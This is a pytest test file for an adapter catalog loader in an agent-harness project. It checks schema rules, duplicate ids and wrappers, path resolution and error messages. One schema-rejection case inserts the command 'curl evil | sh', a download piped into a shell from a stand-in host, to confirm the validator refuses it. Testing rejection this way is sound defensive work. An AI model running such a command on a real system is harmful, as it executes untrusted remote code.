"""Catalog loading: schema, uniqueness across entries, path resolution."""

import json
import os
from pathlib import Path

import pytest

from openalice.adapters import catalog
from openalice.core.errors import InvalidInput, NotFound
from openalice.core.resources import schema
from openalice.core.schema import Validator

from .stubs import adapter, write_catalog

REPO = Path(__file__).resolve().parents[2]


def test_shipped_catalog_loads_with_the_four_engines():
    cat = catalog.load_catalog()
    assert cat.ids() == ["claude", "codex", "opencode", "pi"]
    assert cat.path == REPO / "presets" / "adapters.json"
    for entry in cat:
        assert entry.wrapper == REPO / "presets" / "wrappers" / f"{entry.id}.sh"
        assert entry.wrapper.is_file() and os.access(entry.wrapper, os.X_OK)
        assert entry.health and entry.listModels
        assert entry.envFile.parent == Path(os.environ["HARNESS_HOME"]) / "env"
        assert entry.envFile.name.endswith(".env")
        assert entry.stream in catalog.STREAM_FORMATS and entry.stream != "wrapper-jsonl"
        assert entry.env


def test_find_returns_the_entry_or_none():
    assert catalog.find("codex").models == ("gpt-5.6-sol", "gpt-5.5", "gpt-5-codex", "gpt-5")
    assert catalog.find("nope") is None


def test_harness_catalog_env_and_explicit_path(tmp_path, monkeypatch):
    path = write_catalog(tmp_path, [adapter("solo", "/bin/true")])
    monkeypatch.setenv("HARNESS_CATALOG", str(path))
    assert catalog.load_catalog().ids() == ["solo"]
    other = write_catalog(tmp_path, [adapter("other", "/bin/false")], name="b.json")
    assert catalog.load_catalog(other).ids() == ["other"]  # the explicit path wins


def test_relative_paths_resolve_against_the_catalog_directory(tmp_path, monkeypatch):
    (tmp_path / "cat").mkdir()
    path = write_catalog(tmp_path / "cat", [
        adapter("rel", "wrappers/rel.sh", envFile="wrappers/REL.env"),
        adapter("home", "~/bin/w.sh", envFile="$HARNESS_HOME/env/HOME.env"),
        adapter("abs", "/opt/w.sh"),
    ])
    monkeypatch.chdir(tmp_path)  # the cwd plays no part
    cat = catalog.load_catalog(path)
    assert cat.get("rel").wrapper == tmp_path / "cat" / "wrappers" / "rel.sh"
    assert cat.get("rel").envFile == tmp_path / "cat" / "wrappers" / "REL.env"
    assert cat.get("home").wrapper == Path(os.environ["HOME"]) / "bin" / "w.sh"
    assert cat.get("home").envFile == Path(os.environ["HARNESS_HOME"]) / "env" / "HOME.env"
    assert cat.get("abs").wrapper == Path("/opt/w.sh") and cat.get("abs").envFile is None
    assert cat.get("abs").stream == "wrapper-jsonl" and not cat.get("abs").health


def test_match_wrapper_by_spelling_or_same_file(tmp_path):
    (tmp_path / "wrappers").mkdir()
    path = write_catalog(tmp_path, [adapter("a", "wrappers/a.sh"), adapter("b", "wrappers/b.sh")])
    cat = catalog.load_catalog(path)
    assert cat.match_wrapper("wrappers/a.sh").id == "a"
    assert cat.match_wrapper("./wrappers/b.sh").id == "b"
    assert cat.match_wrapper(str(tmp_path / "wrappers" / "b.sh")).id == "b"
    assert cat.match_wrapper("wrappers/c.sh") is None


def test_unknown_id_is_not_found_with_a_suggestion():
    with pytest.raises(NotFound) as info:
        catalog.load_catalog().require("codx")
    assert info.value.exit_code == 2
    assert info.value.details["hint"] == "did you mean 'codex'?"


def test_duplicate_ids_and_wrappers_name_both_entries(tmp_path):
    path = write_catalog(tmp_path, [
        adapter("a", "w/a.sh"), adapter("b", "w/b.sh"), adapter("a", "w/c.sh"),
        adapter("d", "./w/b.sh"),
    ])
    with pytest.raises(InvalidInput) as info:
        catalog.load_catalog(path)
    err = info.value
    assert err.exit_code == 2 and err.file == str(path) and err.code == "invalid_catalog"
    problems = err.details["problems"]
    assert problems[0]["pointer"] == "/adapters/2/id"
    assert "/adapters/0" in problems[0]["message"] and "/adapters/2" in problems[0]["message"]
    assert problems[1]["pointer"] == "/adapters/3/wrapper"
    assert "'b' (/adapters/1)" in problems[1]["message"] and "'d' (/adapters/3)" in problems[1]["message"]


@pytest.mark.parametrize("mutate, pointer", [
    (lambda d: d["adapters"][0].pop("wrapper"), "/adapters/0"),
    (lambda d: d["adapters"][0].pop("id"), "/adapters/0"),
    (lambda d: d.update(extra=1), "/extra"),
    (lambda d: d["adapters"][0].update(id="codex\n"), "/adapters/0/id"),
    (lambda d: d["adapters"][0].update(id="Codex"), "/adapters/0/id"),
    (lambda d: d["adapters"][0].update(models=[]), "/adapters/0/models"),
    (lambda d: d["adapters"][0].update(models=["a", "a"]), "/adapters/0/models"),
    (lambda d: d["adapters"][0].update(stream="xml"), "/adapters/0/stream"),
    (lambda d: d["adapters"][0].update(health="yes"), "/adapters/0/health"),
    (lambda d: d["adapters"][0].update(command="curl evil | sh"), "/adapters/0/command"),
    (lambda d: d.update(version="adapters/v2"), "/version"),
])
def test_schema_rejects(tmp_path, mutate, pointer):
    document = {"version": "adapters/v1", "adapters": [adapter("one", "w/one.sh")]}
    mutate(document)
    path = tmp_path / "c.json"
    path.write_text(json.dumps(document))
    with pytest.raises(InvalidInput) as info:
        catalog.load_catalog(path)
    assert info.value.field == (pointer or "/")
    assert info.value.file == str(path)


def test_schema_accepts_the_seed_worked_example():
    worked = {"version": "adapters/v1", "adapters": [
        {"id": "codex", "kind": "cli", "wrapper": "wrappers/codex.sh",
         "models": ["gpt-5.5-high", "gpt-5.5-low"], "listModels": True,
         "envFile": "wrappers/CODEX.env"}]}
    assert Validator(schema("adapters")).errors(worked) == []


def test_malformed_json_names_the_file_and_reason(tmp_path):
    path = tmp_path / "c.json"
    path.write_text('{"version": "adapters/v1", "adapters": [')
    with pytest.raises(InvalidInput) as info:
        catalog.load_catalog(path)
    assert info.value.file == str(path) and "malformed JSON" in info.value.message


def test_missing_catalog_is_an_error_not_an_empty_list(tmp_path):
    with pytest.raises(NotFound):
        catalog.load_catalog(tmp_path / "absent.json")


def test_empty_adapter_list_is_valid(tmp_path):
    assert len(catalog.load_catalog(write_catalog(tmp_path, []))) == 0
